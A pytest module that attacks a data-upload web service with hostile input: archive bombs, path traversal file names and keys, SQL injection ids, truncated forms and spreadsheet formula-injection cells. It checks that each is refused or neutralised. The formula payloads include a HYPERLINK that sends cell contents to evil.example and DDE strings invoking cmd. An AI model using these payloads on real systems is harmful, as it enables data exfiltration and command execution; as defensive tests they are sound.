"""Attacks on the service's input: malformed and hostile uploads, archive bombs, pages and
ids out of range, NUL bytes, truncated forms, formula cells. Each case names the attack and
asserts what must hold: a 4xx (never a 5xx), nothing stored, nothing left in the spool."""

from __future__ import annotations

import io
import itertools
import zipfile
from collections.abc import Iterator
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from entrepot.bootstrap.app import App
from tests.support.attacks import spool_leftovers, stored, zip_bytes
from tests.support.csvs import labelled_csv
from tests.support.parts import parts
from tests.support.web import Api, make_web_app, run_jobs, user_api

_emails = itertools.count()


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, App]]:
    app, services = make_web_app(tmp_path_factory.mktemp("web"))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, services


@pytest.fixture
def api(web: tuple[TestClient, App]) -> Api:
    """A new user for each attack, so what one stores never hides what another left."""
    return user_api(*web, f"attacker{next(_emails)}@example.com")


def parquet_bytes(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


def xlsx_bomb(rows: int = 400_000) -> bytes:
    """A valid-looking workbook whose sheet XML inflates hugely from a few hundred KiB."""
    row = '<row><c t="inlineStr"><is><t>a</t></is></c><c><v>1</v></c></row>'
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData>' + row * rows + "</sheetData></worksheet>"
    ).encode()
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def real_xlsx() -> bytes:
    buffer = io.BytesIO()
    pd.DataFrame({"amount": [1.5, 2.5, 3.5], "country": ["FR", "DE", "FR"]}).to_excel(
        buffer, index=False, engine="openpyxl"
    )
    return buffer.getvalue()


GOOD_CSV = b"amount,country\n1.5,FR\n2.5,DE\n3.5,FR\n"

#: (attack, file name, bytes, expected status): refused, nothing stored.
REFUSED_UPLOADS: list[tuple[str, str, bytes, int]] = [
    ("empty file", "data.csv", b"", 422),
    ("whitespace only", "data.csv", b"   \n\n  ", 422),
    ("header without rows", "data.csv", b"amount,country\n", 422),
    ("an unclosed quote at the end", "data.csv", b'a,b\n1,2\n"3,4\n', 422),
    ("png named csv", "data.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, 415),
    ("pdf named csv", "data.csv", b"%PDF-1.7\n" + b"x" * 100, 415),
    # a gzip is read now (issue 25 item 5): a damaged one is unreadable, not an unknown format
    ("gzip named csv", "data.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 100, 422),
    ("old excel named csv", "data.csv", b"\xd0\xcf\x11\xe0" + b"\x00" * 100, 415),
    ("nul bytes in a csv", "data.csv", b"a,b\n1,\x002\n" * 20, 415),
    ("control characters as csv", "data.csv", bytes(range(1, 32)) * 40, 415),
    ("executable suffix", "data.exe", GOOD_CSV, 415),
    ("shell script suffix", "run.sh", GOOD_CSV, 415),
    ("zip archive named zip", "data.zip", zip_bytes({"a.csv": GOOD_CSV}), 415),
    ("zip that is no workbook", "data.xlsx", zip_bytes({"a.csv": GOOD_CSV}), 422),
    ("zip header then garbage", "data.xlsx", b"PK\x03\x04" + b"\xff" * 500, 422),
    ("xlsx bomb: 400k rows inflating over 100 to 1", "bomb.xlsx", xlsx_bomb(), 422),
    ("parquet magic then garbage", "data.parquet", b"PAR1" + b"\x00" * 200 + b"PAR1", 422),
    (
        "parquet list column",
        "data.parquet",
        parquet_bytes(pa.table({"l": [[1, 2], [3]], "amount": [1.0, 2.0]})),
        422,
    ),
    (
        "parquet struct column",
        "data.parquet",
        parquet_bytes(pa.table({"s": [{"a": 1}, {"a": 2}], "amount": [1.0, 2.0]})),
        422,
    ),
    (
        "parquet binary column",
        "data.parquet",
        parquet_bytes(pa.table({"b": [b"\x00\x01", b"x"], "amount": [1.0, 2.0]})),
        422,
    ),
    (
        "parquet map column",
        "data.parquet",
        parquet_bytes(
            pa.table(
                {
                    "m": pa.array([[("k", 1)], [("j", 2)]], type=pa.map_(pa.string(), pa.int64())),
                    "amount": [1.0, 2.0],
                }
            )
        ),
        422,
    ),
    (
        "parquet without rows",
        "data.parquet",
        parquet_bytes(pa.table({"amount": pa.array([], type=pa.float64())})),
        422,
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "status"),
    [pytest.param(n, c, s, id=attack) for attack, n, c, s in REFUSED_UPLOADS],
)
def test_a_hostile_upload_is_refused_and_nothing_is_stored(
    web: tuple[TestClient, App], api: Api, name: str, content: bytes, status: int
) -> None:
    answer = api.upload(content, name)
    assert answer.status_code == status, answer.text
    assert answer.json()["message"] and "Traceback" not in answer.text
    assert stored(web[1], api) == []
    assert spool_leftovers(web[1]) == []


@pytest.mark.parametrize("lies", [False, True], ids=["declared", "dimension that lies"])
def test_a_workbook_longer_than_the_row_cap_is_refused_at_upload(
    web: tuple[TestClient, App], api: Api, monkeypatch: pytest.MonkeyPatch, lies: bool
) -> None:
    from entrepot.fraud.tables import bounds

    monkeypatch.setattr(bounds, "MAX_XLSX_ROWS", 5)
    buffer = io.BytesIO()
    pd.DataFrame({"amount": range(20), "country": ["FR"] * 20}).to_excel(
        buffer, index=False, engine="openpyxl"
    )
    content = buffer.getvalue()
    if lies:
        with zipfile.ZipFile(io.BytesIO(content)) as zf:
            members = {i.filename: zf.read(i) for i in zf.infolist()}
        sheet = members["xl/worksheets/sheet1.xml"]
        members["xl/worksheets/sheet1.xml"] = sheet.replace(b'ref="A1:B21"', b'ref="A1:B3"')
        content = zip_bytes(members)
    answer = api.upload(content, "long.xlsx")
    assert answer.status_code == 422, answer.text
    assert "more than 5 rows" in answer.json()["message"]
    assert "save the sheet as CSV" in answer.json()["message"]
    assert stored(web[1], api) == []


#: (attack, file name, bytes): odd but well-formed tables, stored whole.
ACCEPTED_UPLOADS: list[tuple[str, str, bytes]] = [
    ("a csv line over 128 KiB", "data.csv", b"a,b\n" + b"x" * (200 * 1024) + b",1\n2,3\n"),
    ("a 3 MiB quoted cell", "data.csv", b'a,b\n"' + b"x" * (3 * 1024 * 1024) + b'",1\n2,3\n'),
    ("a quoted cell with 10k separators", "data.csv", b'a,b\n"' + b",;|\t" * 10_000 + b'",1\n'),
    ("path traversal in the file name", "../../../etc/passwd.csv", GOOD_CSV),
    ("nul byte in the file name", "da\x00ta.csv", GOOD_CSV),
    ("absolute windows path as file name", "C:\\Windows\\system32\\x.csv", GOOD_CSV),
    ("a 1000-character file name", "x" * 1000 + ".csv", GOOD_CSV),
    ("semicolons and decimal commas", "data.csv", b"amount;country\n1,5;FR\n2,5;DE\n"),
    ("a real workbook", "data.xlsx", real_xlsx()),
    ("a workbook without suffix", "data", real_xlsx()),
]


@pytest.mark.parametrize(
    ("name", "content"), [pytest.param(n, c, id=attack) for attack, n, c in ACCEPTED_UPLOADS]
)
def test_an_odd_but_well_formed_upload_is_stored_inside_the_users_folder(
    web: tuple[TestClient, App], api: Api, name: str, content: bytes
) -> None:
    answer = api.upload(content, name)
    assert answer.status_code == 201, answer.text
    _, services = web
    (key,) = [o.key for o in parts(services).raw_store.list(f"users/{api.user_id}/")]
    assert ".." not in key and "\x00" not in key and len(key) < 300
    assert spool_leftovers(services) == []


def post_form(api: Api, body: bytes, boundary: str = "XyZ") -> Any:
    headers = {**api.headers, "Content-Type": f"multipart/form-data; boundary={boundary}"}
    return api.client.post("/api/upload", content=body, headers=headers)


def part(name: str, value: bytes, filename: str | None = None) -> bytes:
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    return f"--XyZ\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + value + b"\r\n"


ROWS = labelled_csv(300)
#: (attack, raw body): forms that must be refused whole.
BAD_FORMS: list[tuple[str, bytes]] = [
    ("no closing boundary", part("file", ROWS, "data.csv")[:-2]),
    ("cut in the middle of a row", b"--XyZ\r\n" + part("file", ROWS, "d.csv")[7 : len(ROWS) // 2]),
    ("closing boundary missing its dashes", part("file", ROWS, "data.csv") + b"--XyZ\r\n"),
    ("only the preamble", b"--XyZ\r\n"),
    ("no file field", part("target_column", b"is_fraud") + b"--XyZ--\r\n"),
    (
        "two files",
        part("file", GOOD_CSV, "a.csv") + part("file", GOOD_CSV, "b.csv") + b"--XyZ--\r\n",
    ),
    ("a 100 KiB form field", part("target_column", b"x" * 100_000) + b"--XyZ--\r\n"),
    (
        "thirty form fields",
        b"".join(part(f"f{i}", b"v") for i in range(30))
        + part("file", GOOD_CSV, "a.csv")
        + b"--XyZ--\r\n",
    ),
    ("garbage instead of parts", b"\x00\xff" * 1000),
]


@pytest.mark.parametrize("body", [pytest.param(b, id=attack) for attack, b in BAD_FORMS])
def test_a_malformed_or_truncated_form_is_refused_and_nothing_is_stored(
    web: tuple[TestClient, App], api: Api, body: bytes
) -> None:
    answer = post_form(api, body)
    assert answer.status_code == 400, answer.text
    assert stored(web[1], api) == []
    assert spool_leftovers(web[1]) == []


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({"Content-Type": "application/json"}, id="json instead of a form"),
        pytest.param({"Content-Type": "multipart/form-data"}, id="form without boundary"),
        pytest.param({"Content-Type": "text/csv"}, id="raw csv body"),
    ],
)
def test_an_upload_that_is_not_a_form_is_refused(
    web: tuple[TestClient, App], api: Api, headers: dict[str, str]
) -> None:
    answer = api.client.post("/api/upload", content=GOOD_CSV, headers={**api.headers, **headers})
    assert answer.status_code == 400
    assert stored(web[1], api) == []


LISTINGS = ["/api/datasets", "/api/predictions", "/api/history"]
BAD_PAGES = ["0", "-1", str(-(2**63)), str(2**63), str(10**30), "1000001"]
BAD_SIZES = ["0", "-5", "201", str(10**20)]


@pytest.mark.parametrize("listing", LISTINGS)
@pytest.mark.parametrize("page", BAD_PAGES)
def test_a_page_out_of_range_is_a_422(api: Api, listing: str, page: str) -> None:
    answer = api.get(listing, params={"page": page})
    assert answer.status_code == 422, answer.text
    assert "page" in answer.json()["message"]


@pytest.mark.parametrize("listing", LISTINGS)
@pytest.mark.parametrize("per_page", BAD_SIZES)
def test_a_page_size_out_of_range_is_a_422(api: Api, listing: str, per_page: str) -> None:
    answer = api.get(listing, params={"per_page": per_page})
    assert answer.status_code == 422, answer.text


HUGE_IDS = [str(2**63), str(2**64 + 1), str(10**40), "-1", "0", str(-(2**63) - 1)]


@pytest.mark.parametrize("model_id", HUGE_IDS)
@pytest.mark.parametrize("method", ["GET", "DELETE", "GET download"])
def test_a_model_id_beyond_64_bits_is_not_found(api: Api, model_id: str, method: str) -> None:
    verb, _, suffix = method.partition(" ")
    url = f"/api/models/{model_id}" + ("/download" if suffix else "")
    answer = api.client.request(verb, url, headers=api.headers)
    assert answer.status_code == 404, answer.text


@pytest.mark.parametrize("model_id", [2**63, 2**64, -(2**70)])
def test_a_huge_model_id_in_a_predict_body_is_refused(api: Api, model_id: int) -> None:
    answer = api.post("/api/predict", json={"model_id": model_id, "dataset_id": "a" * 32})
    assert 400 <= answer.status_code < 500, answer.text


ODD_IDS = [
    pytest.param("ab%00cd", id="nul byte"),
    pytest.param("%00", id="only a nul byte"),
    pytest.param("x" * 5000, id="5000 characters"),
    pytest.param("%E2%80%AE%F0%9F%92%A5", id="unicode override and emoji"),
    pytest.param("..%2F..%2Fetc", id="encoded traversal"),
    pytest.param("'%20OR%201=1--", id="sql injection"),
]


@pytest.mark.parametrize("odd", ODD_IDS)
@pytest.mark.parametrize("what", ["datasets", "predictions"])
def test_an_odd_string_id_is_not_found(api: Api, what: str, odd: str) -> None:
    for verb in ("GET", "DELETE"):
        answer = api.client.request(verb, f"/api/{what}/{odd}", headers=api.headers)
        assert answer.status_code == 404, (verb, answer.text)


@pytest.mark.parametrize(
    "key",
    [
        pytest.param("users/1/predictions/x\x00.csv", id="nul in key"),
        pytest.param("users/1/../2/predictions/x.csv", id="dot-dot in key"),
        pytest.param("/etc/passwd", id="absolute key"),
        pytest.param("users/1/%2e%2e/2/x.csv", id="encoded dot-dot"),
        pytest.param("x" * 2000, id="2000 character key"),
    ],
)
def test_a_hostile_key_to_the_seeds_download_is_refused(api: Api, key: str) -> None:
    answer = api.get("/api/download_s3_predictions", params={"key": key})
    assert 400 <= answer.status_code < 500, answer.text


@pytest.mark.parametrize(
    ("email", "name"),
    [
        pytest.param("nul\x00@example.com", "", id="nul in email"),
        pytest.param("bell\x07@example.com", "", id="control character in email"),
        pytest.param("ok-name@example.com", "Eve\x00", id="nul in name"),
        pytest.param("ok-esc@example.com", "\x1b[31mred", id="terminal escape in name"),
    ],
)
def test_control_characters_in_an_account_are_refused(
    web: tuple[TestClient, App], email: str, name: str
) -> None:
    client, _ = web
    answer = client.post(
        "/api/auth/register",
        json={"email": email, "password": "correct horse battery staple", "name": name},
    )
    assert answer.status_code == 422, answer.text


# -- spreadsheet safety: the scores file of an upload full of formulas --------------------

FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?x="&A1,"click")', id="hyperlink"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at sign"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage return"),
    pytest.param("＝1+1", id="full-width equals"),
]


@pytest.fixture(scope="module")
def scored_csv(web: tuple[TestClient, App]) -> pd.DataFrame:
    """The downloaded scores of an upload whose text cells are all formulas."""
    client, services = web
    api = user_api(client, services, "formulas@example.com")
    train = api.upload(labelled_csv(800), "train.csv").json()
    assert "dataset_id" in train, train
    train = train["dataset_id"]
    job = api.post("/api/train", json={"dataset_id": train, "model_name": "m"}).json()
    run_jobs(services)
    model_id = api.get(f"/api/jobs/{job['job_id']}").json()["result"]["model_id"]
    frame = pd.read_csv(io.BytesIO(labelled_csv(40, seed=9))).drop(columns=["is_fraud"])
    payloads = [str(p.values[0]).replace(" ", "") for p in FORMULAS]
    # id columns are echoed into the scores: the attacker's cells come back there
    # (without spaces, so that the column reads as an id, not as free text)
    frame["transaction_id"] = [f"{payloads[i % len(payloads)]}#{i}" for i in range(len(frame))]
    frame["reference_id"] = [-(i + 1) for i in range(len(frame))]
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)  # keeps tabs and line ends in cells as they are
    uploaded = api.upload(buffer.getvalue(), "new.parquet").json()
    assert "dataset_id" in uploaded, uploaded
    upload = uploaded["dataset_id"]
    predict = api.post("/api/predict", json={"model_id": model_id, "dataset_id": upload}).json()
    run_jobs(services)
    result = api.get(f"/api/jobs/{predict['job_id']}").json()["result"]
    download = api.get(f"/api/predictions/{result['prediction_id']}/download")
    assert download.status_code == 200
    return pd.read_csv(io.BytesIO(download.content), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_cell_comes_back_as_text(scored_csv: pd.DataFrame, payload: str) -> None:
    payload = payload.replace(" ", "")
    echoed = [v for v in scored_csv["transaction_id"] if payload in v]
    assert echoed, "the id column is echoed into the scores"
    assert all(v.startswith("'" + payload) for v in echoed), echoed


def test_no_text_cell_of_the_scores_starts_a_formula(scored_csv: pd.DataFrame) -> None:
    for column in scored_csv.columns:
        assert not column.startswith(("=", "+", "@")), column
        for value in scored_csv[column]:
            if value[:1] in ("=", "+", "@", "\t", "\r", "-"):
                float(value.replace(",", "."))  # only numbers may start so


def test_a_negative_number_stays_a_number(scored_csv: pd.DataFrame) -> None:
    assert scored_csv["reference_id"].tolist() == [str(-(i + 1)) for i in range(len(scored_csv))]
